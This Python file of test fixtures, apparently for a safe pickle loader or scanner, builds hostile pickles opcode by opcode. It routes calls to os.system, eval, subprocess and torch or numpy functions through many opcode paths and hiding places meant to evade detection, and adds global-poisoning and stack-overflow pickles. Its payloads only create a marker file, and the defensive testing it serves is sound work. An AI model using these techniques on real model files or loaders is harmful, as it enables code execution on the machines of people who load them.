# SPDX-FileCopyrightText: The Seatrial authors
# SPDX-License-Identifier: Apache-2.0
"""Hostile pickles: what is called, by which instructions, and where in the pickle.

Each executes, if anything does, by creating the file MARKER in the current directory, or by
setting the attribute POISON on an object of the process. Written by instruction, since
`pickle.dumps` writes none of these.
"""

import struct
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

MARKER = "executed"
POISON = "seatrial_poison"
SHELL = f": > {MARKER}"
PYTHON = f"open({MARKER!r}, 'w')"
COMMAND = ["touch", MARKER]


@dataclass(frozen=True, slots=True)
class Target:
    """A function that creates the marker when it is called with the arguments."""

    module: str
    name: str
    arguments: tuple[Any, ...]
    protocols: tuple[int, ...] = (0, 1, 2, 3, 4, 5)
    """Those in which the unpickler resolves this spelling."""


@dataclass(frozen=True, slots=True)
class Raw:
    """Instructions as they are, where a value is expected."""

    code: bytes


_OLD, _DOTTED = (0, 1, 2), (4, 5)
_PATH = f"cpathlib\nPosixPath\n(X\x08\0\0\0{MARKER}tR".encode()

TARGETS: dict[str, Target] = {
    "os.system": Target("os", "system", (SHELL,)),
    "posix.system": Target("posix", "system", (SHELL,)),
    "nt.system": Target("nt", "system", (SHELL,)),
    "os.mkdir": Target("os", "mkdir", (MARKER,)),
    "os.popen": Target("os", "popen", (SHELL,)),
    "os.spawnvp": Target("os", "spawnvp", (0, "touch", COMMAND)),
    "builtins.eval": Target("builtins", "eval", (PYTHON,)),
    "builtins.exec": Target("builtins", "exec", (PYTHON,)),
    "builtins.open": Target("builtins", "open", (MARKER, "w")),
    "__builtin__.eval": Target("__builtin__", "eval", (PYTHON,), _OLD),
    "__builtin__.execfile": Target("__builtin__", "execfile", (MARKER,), _OLD),
    "commands.getoutput": Target("commands", "getoutput", (SHELL,), _OLD),
    "io.open": Target("io", "open", (MARKER, "w")),
    "_io.FileIO": Target("_io", "FileIO", (MARKER, "w")),
    "codecs.open": Target("codecs", "open", (MARKER, "w")),
    "subprocess.Popen": Target("subprocess", "Popen", (COMMAND,)),
    "subprocess.run": Target("subprocess", "run", (COMMAND,)),
    "subprocess.check_output": Target("subprocess", "check_output", (COMMAND,)),
    "timeit.timeit": Target("timeit", "timeit", ("pass", PYTHON)),
    "runpy._run_code": Target("runpy", "_run_code", (PYTHON, {})),
    "cProfile.run": Target("cProfile", "run", (PYTHON, f"{MARKER}.profile")),
    "pydoc.pipepager": Target("pydoc", "pipepager", ("", SHELL)),
    "logging.FileHandler": Target("logging", "FileHandler", (MARKER,)),
    "sqlite3.connect": Target("sqlite3", "connect", (MARKER,)),
    "shutil.copyfile": Target("shutil", "copyfile", ("/dev/null", MARKER)),
    "pathlib.PosixPath.touch": Target("pathlib", "PosixPath.touch", (Raw(_PATH),), _DOTTED),
    "argparse._os.system": Target("argparse", "_os.system", (SHELL,), _DOTTED),
    "torch.serialization.os.system": Target("torch.serialization", "os.system", (SHELL,), _DOTTED),
    "torch.save": Target("torch", "save", ({}, MARKER)),
    "torch.from_file": Target("torch", "from_file", (MARKER, True, 4)),
    "UntypedStorage.from_file": Target(
        "torch", "UntypedStorage.from_file", (MARKER, True, 4), _DOTTED
    ),
    "torch.hub": Target("torch.hub", "download_url_to_file", ("data:,x", MARKER)),
    "torch.utils.collect_env": Target("torch.utils.collect_env", "run", (SHELL,)),
    "numpy.memmap": Target("numpy", "memmap", (MARKER, "uint8", "w+", 0, (1,))),
    "numpy.savetxt": Target("numpy", "savetxt", (MARKER, [1])),
    "numpy.runstring": Target("numpy.testing._private.utils", "runstring", (PYTHON, {})),
    "numpy.crackfortran": Target("numpy.f2py.crackfortran", "myeval", (PYTHON, {}, {})),
    "ctypes.CDLL": Target("ctypes", "CDLL", (MARKER,)),
}
"""What is called, by its usual name; those that create nothing are listed with the test."""

DEFAULT = TARGETS["os.system"]


def push(value: Any) -> bytes:
    """Instructions of the first protocols that leave a plain value on the stack."""
    match value:
        case Raw():
            return value.code
        case None:
            return b"N"
        case bool():
            return b"I01\n" if value else b"I00\n"
        case int():
            return b"J" + struct.pack("<i", value)
        case str():
            return _binunicode(value)
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case tuple():
            return b"(" + b"".join(map(push, value)) + b"t"
        case list():
            return b"(" + b"".join(map(push, value)) + b"l"
        case dict():
            return b"(" + b"".join(push(key) + push(one) for key, one in value.items()) + b"d"
        case _:
            raise TypeError(value)


def _binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def ask(module: str, name: str) -> bytes:
    """A GLOBAL instruction."""
    return f"c{module}\n{name}\n".encode()


def call(function: bytes, *arguments: Any) -> bytes:
    """A REDUCE of what the instructions leave on the stack."""
    return function + push(tuple(arguments)) + b"R"


def _named(target: Target) -> bytes:
    return ask(target.module, target.name)


def _partial(target: Target) -> bytes:
    return push((Raw(_named(target)), *target.arguments))


_SPELLINGS: dict[str, Callable[[str], bytes]] = {
    "BINUNICODE": _binunicode,
    "SHORT_BINUNICODE": lambda text: b"\x8c" + bytes([len(text)]) + text.encode(),
    "BINUNICODE8": lambda text: b"\x8d" + struct.pack("<Q", len(text)) + text.encode(),
    "UNICODE": lambda text: b"V" + "".join(f"\\u{ord(one):04x}" for one in text).encode() + b"\n",
    "SHORT_BINSTRING": lambda text: b"U" + bytes([len(text)]) + text.encode(),
    "BINSTRING": lambda text: b"T" + struct.pack("<i", len(text)) + text.encode(),
    "STRING": lambda text: b"S'" + "".join(f"\\x{ord(one):02x}" for one in text).encode() + b"'\n",
    "rot13": lambda text: call(ask("_codecs", "encode"), _rot13(text), "rot13"),
    "memoized": lambda text: _binunicode(text) + b"\x940" + b"h\x00",
}
"""How a name reaches the stack for STACK_GLOBAL; the computed one asks for allowed names only."""


def _rot13(text: str) -> str:
    turned = str.maketrans(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
        "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM",
    )
    return text.translate(turned)


def _stack_global(spelling: str) -> Callable[[Target], bytes]:
    spell = _SPELLINGS[spelling]

    def way(target: Target) -> bytes:
        # The memo is numbered by the instruction: only the first name may be read back from it.
        second = _SPELLINGS["BINUNICODE"] if spelling == "memoized" else spell
        return call(spell(target.module) + second(target.name) + b"\x93", *target.arguments)

    return way


def _extension(instruction: bytes, code: int, width: str) -> Callable[[Target], bytes]:
    def way(target: Target) -> bytes:
        added = call(ask("copyreg", "add_extension"), target.module, target.name, code) + b"0"
        return added + call(instruction + struct.pack(width, code), *target.arguments)

    return way


def _attribute(name: str, instructions: Callable[[bytes], bytes]) -> Callable[[Target], bytes]:
    """An allowed object gets the function as an attribute that an instruction then calls."""

    def way(target: Target) -> bytes:
        holder = call(ask("argparse", "Namespace")) + push({name: Raw(_named(target))}) + b"b"
        return holder + instructions(push(target.arguments[0] if target.arguments else None))

    return way


def _object_array(target: Target) -> bytes:
    made = call(
        ask("numpy.core.multiarray", "_reconstruct"), Raw(ask("numpy", "ndarray")), (0,), b"b"
    )
    dtype = call(ask("numpy", "dtype"), "O8", False, True)
    state = push((1, (1,), Raw(dtype), False, [Raw(call(_named(target), *target.arguments))]))
    return made + state + b"b"


def _list(value: Any) -> list[Any]:
    return [value]


def _module_of(target: Target) -> bytes:
    return call(ask("importlib", "import_module"), target.module)


WAYS: dict[str, Callable[[Target], bytes]] = {
    "GLOBAL REDUCE": lambda target: call(_named(target), *target.arguments),
    **{f"STACK_GLOBAL of {name}": _stack_global(name) for name in _SPELLINGS},
    "INST": lambda target: (
        b"(" + b"".join(map(push, target.arguments)) + f"i{target.module}\n{target.name}\n".encode()
    ),
    "OBJ": lambda target: b"(" + _named(target) + b"".join(map(push, target.arguments)) + b"o",
    "NEWOBJ": lambda target: call(ask("functools", "partial") + _partial(target) + b"\x81"),
    "NEWOBJ_EX": lambda target: call(ask("functools", "partial") + _partial(target) + b"}\x92"),
    "NEWOBJ of a class": lambda target: (
        ask("numpy", "memmap") + push((MARKER, "uint8", "w+", 0, (1,))) + b"\x81"
    ),
    "NEWOBJ_EX of a class": lambda target: (
        ask("numpy", "memmap") + push((MARKER,)) + push({"mode": "w+", "shape": (1,)}) + b"\x92"
    ),
    "EXT1": _extension(b"\x82", 0xF1, "<B"),
    "EXT2": _extension(b"\x83", 0xF1F1, "<H"),
    "EXT4": _extension(b"\x84", 0x7FFFFFF1, "<i"),
    "BUILD __setstate__": _attribute("__setstate__", lambda argument: argument + b"b"),
    "APPEND": _attribute("append", lambda argument: argument + b"a"),
    "APPENDS": _attribute("append", lambda argument: b"(" + argument + b"e"),
    "ADDITEMS": _attribute("add", lambda argument: b"(" + argument + b"\x90"),
    "defaultdict": lambda target: call(
        ask("collections", "defaultdict"), Raw(call(ask("functools", "partial"), *_parts(target)))
    ),
    "_rebuild_from_type_v2": lambda target: call(
        ask("torch._tensor", "_rebuild_from_type_v2"), Raw(_named(target)),
        Raw(ask("builtins", "set")), target.arguments, {},
    ),
    "_rebuild_from_type": lambda target: call(
        ask("torch._tensor", "_rebuild_from_type"), Raw(_named(target)),
        Raw(ask("builtins", "set")), target.arguments, {},
    ),
    "map": lambda target: call(
        ask("builtins", "list"),
        Raw(call(ask("builtins", "map"), Raw(_named(target)), *map(_list, target.arguments))),
    ),
    "starmap": lambda target: call(
        ask("collections", "deque"),
        Raw(call(ask("itertools", "starmap"), Raw(_named(target)), [target.arguments])),
    ),
    "operator.call": lambda target: call(ask("_operator", "call"), *_parts(target)),
    "getattr": lambda target: call(
        call(ask("builtins", "getattr"), Raw(_module_of(target)), target.name), *target.arguments
    ),
    "attrgetter": lambda target: call(
        call(call(ask("operator", "attrgetter"), target.name), Raw(_module_of(target))),
        *target.arguments,
    ),
    "methodcaller": lambda target: call(
        call(ask("operator", "methodcaller"), target.name, *target.arguments),
        Raw(_module_of(target)),
    ),
    "module as attribute": lambda target: call(
        call(call(ask("operator", "attrgetter"), "system"), Raw(ask("torch.serialization", "os"))),
        SHELL,
    ),
    "_import_dotted_name": lambda target: call(
        call(ask("torch._utils", "_import_dotted_name"), f"{target.module}.{target.name}"),
        *target.arguments,
    ),
    "weakref.finalize": lambda target: call(
        ask("weakref", "finalize"), Raw(call(ask("argparse", "Namespace"))), *_parts(target)
    ),
    "numpy object array": _object_array,
    "numpy vectorize": lambda target: call(
        call(ask("numpy", "vectorize"), Raw(_named(target))), *target.arguments
    ),
    "pickle.loads": lambda target: call(
        ask("pickle", "loads"), call(_named(target), *target.arguments) + b"."
    ),
    "_pickle.loads": lambda target: call(
        ask("_pickle", "loads"), call(_named(target), *target.arguments) + b"."
    ),
    "PUT overwritten": lambda target: (
        ask("collections", "OrderedDict") + b"p0\n0" + _named(target) + b"p0\n0"
        + call(b"g0\n", *target.arguments)
    ),
    "BINPUT overwritten": lambda target: (
        ask("collections", "OrderedDict") + b"q\x070" + _named(target) + b"q\x070"
        + call(b"h\x07", *target.arguments)
    ),
    "LONG_BINPUT overwritten": lambda target: (
        ask("collections", "OrderedDict") + b"q\x050" + _named(target) + b"r\x05\0\0\x000"
        + call(b"j\x05\0\0\0", *target.arguments)
    ),
    "MEMOIZE overwritten": lambda target: (
        ask("collections", "OrderedDict") + b"q\x000" + ask("torch", "Size") + b"q\x010"
        # Two are kept, so that this is number 2; the third instruction calls it by that.
        + _named(target) + b"\x940" + call(b"h\x02", *target.arguments)
    ),
    "PUT with zeros": lambda target: (
        _named(target) + b"p0007\n0" + call(b"h\x07", *target.arguments)
    ),
    "DUP": lambda target: _named(target) + b"20" + push(target.arguments) + b"R",
    "POP of decoys": lambda target: (
        _named(target) + ask("collections", "OrderedDict") + b"0" + push(target.arguments) + b"R"
    ),
    "POP_MARK": lambda target: (
        _named(target) + b"(" + ask("collections", "OrderedDict") + b"K\x01K\x021"
        + push(target.arguments) + b"R"
    ),
}  # fmt: skip
"""By which instructions a target is called."""
OWN_TARGET = ("NEWOBJ of a class", "NEWOBJ_EX of a class", "module as attribute")
"""Those that call what they need, whatever the target."""


def _parts(target: Target) -> tuple[Any, ...]:
    return (Raw(_named(target)), *target.arguments)


POISONED = {
    "a class": ("argparse", "Namespace"),
    "a class of torch": ("torch.torch_version", "TorchVersion"),
    "a class of paths": ("pathlib", "PosixPath"),
    "a function": ("torch._utils", "_rebuild_tensor_v2"),
    "a class of the list of tensors": ("torch.distributed.checkpoint.metadata", "Metadata"),
    "an index of the list of tensors": ("torch.distributed.checkpoint.metadata", "MetadataIndex"),
}
"""Allowed globals that BUILD changes for the whole process: what loads next meets another class."""


def poison(kind: str) -> bytes:
    """BUILD on a global instead of an instance: its attributes are set, by `setattr`."""
    return ask(*POISONED[kind]) + push((None, {POISON: "set"})) + b"b"


def references_of_numbers() -> bytes:
    """Numbers in an array whose dtype says that they are references to objects."""
    false, true = Raw(b"\x89"), Raw(b"\x88")
    dtype = call(ask("numpy", "dtype"), "f8", false, true)
    dtype += push((3, "<", None, None, None, -1, -1, 1)) + b"b"
    encode = ask("_codecs", "encode")
    held = Raw(call(encode, "A" * 32, "latin1"))
    name = Raw(call(encode, "b", "latin1"))
    array = call(
        ask("numpy._core.multiarray", "_reconstruct"), Raw(ask("numpy", "ndarray")), (0,), name
    )
    return b"\x80\x02" + array + push((1, (4,), Raw(dtype), false, held)) + b"b."


def deep_factory() -> bytes:
    """A tuple nested so deep that whoever hashes it overflows the C stack."""
    deep = b")" + b"\x85" * 1_000_000
    return b"\x80\x02" + ask("collections", "defaultdict") + deep + b"\x85R."


def tensor(hooks: bytes) -> bytes:
    """Instructions for a tensor of four numbers in the storage `0`."""
    storage = push(("storage", Raw(ask("torch", "FloatStorage")), "0", "cpu", 4)) + b"Q"
    parts = (Raw(storage), 0, (4,), (1,), False, Raw(hooks))
    return call(ask("torch._utils", "_rebuild_tensor_v2"), *parts)


TENSOR = tensor(ask("collections", "OrderedDict") + b")R")
BENIGN = b"\x80\x02}X\x06\0\0\0weight" + TENSOR + b"s."
"""What torch itself would write, but for the memo."""
BENIGN_PLAIN = b"\x80\x02}X\x04\0\0\0stepK\x0as."


def _popped(code: bytes) -> bytes:
    return b"\x80\x02" + code + b"0" + BENIGN[2:]


POSITIONS: dict[str, Callable[[bytes], bytes]] = {
    "alone": lambda code: b"\x80\x02" + code + b".",
    "without PROTO": lambda code: code + b".",
    "PROTO 3": lambda code: b"\x80\x03" + code + b".",
    "PROTO 4": lambda code: b"\x80\x04" + code + b".",
    "PROTO 5": lambda code: b"\x80\x05" + code + b".",
    "PROTO twice": lambda code: b"\x80\x02\x80\x00\x80\x02" + code + b".",
    "PROTO inside": lambda code: b"\x80\x02}\x80\x05X\x01\0\0\0a" + code + b"s.",
    "frame": lambda code: b"\x80\x04\x95" + struct.pack("<Q", len(code) + 1) + code + b".",
    "short frame": lambda code: b"\x80\x04\x95" + struct.pack("<Q", 1) + code + b".",
    "empty frames": lambda code: b"\x80\x04" + (b"\x95" + bytes(8)) * 3 + code + b".",
    "value": lambda code: b"\x80\x02}X\x01\0\0\0a" + code + b"s.",
    "key": lambda code: b"\x80\x02}" + code + b"K\x01s.",
    "beside a tensor": lambda code: (
        b"\x80\x02}(X\x06\0\0\0weight" + TENSOR + b"X\x05\0\0\0extra" + code + b"u."
    ),
    "OrderedDict": lambda code: (
        b"\x80\x02" + ask("collections", "OrderedDict") + b")RX\x01\0\0\0a" + code + b"s."
    ),
    "state of OrderedDict": lambda code: (
        b"\x80\x02" + ask("collections", "OrderedDict") + b")R}X\x09\0\0\0_metadata" + code + b"sb."
    ),
    "state of Namespace": lambda code: (
        b"\x80\x02" + ask("argparse", "Namespace") + b")\x81}X\x01\0\0\0a" + code + b"sb."
    ),
    "hooks of a tensor": lambda code: b"\x80\x02" + tensor(code) + b".",
    "popped": _popped,
    "in a popped mark": lambda code: b"\x80\x02(K\x01" + code + b"K\x021" + BENIGN[2:],
    "persistent id": lambda code: b"\x80\x02(X\x07\0\0\0storage" + code + b"tQ.",
    "text persistent id": lambda code: b"\x80\x02" + code + b"0Pstorage\n.",
    "deep": lambda code: b"\x80\x02" + b"]" * 300 + code + b"a" * 300 + b".",
    "behind a large string": lambda code: (
        b"\x80\x02B" + struct.pack("<I", 70_000) + b"." * 70_000 + b"0" + code + b"."
    ),
    "without STOP": lambda code: b"\x80\x02" + code,
    "STOP in a string": lambda code: b"\x80\x02U\x03c.." + b"0" + code + b".",
    "bytes after STOP": lambda code: b"\x80\x02" + code + b"." + bytes(40),
    "behind STOP": lambda code: BENIGN_PLAIN + b"\x80\x02" + code + b".",
    "two pickles": lambda code: b"\x80\x02" + code + b"." + BENIGN,
}
"""Where in a pickle the call stands."""
